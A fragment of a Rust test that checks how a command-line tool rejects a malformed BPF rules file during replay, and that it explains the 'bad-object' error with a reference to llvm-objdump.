    let bench = Bench::new(&[("e.jsonl", ""), ("o.o", "no ELF")]);
    let ran = bench.run(&["replay", "--rules", "o.o", "e.jsonl"]).exits(2).prints_nothing();
    ran.says("not a BPF object file");
    bench.run(&["explain", "bad-object"]).exits(0).prints("llvm-objdump");
}
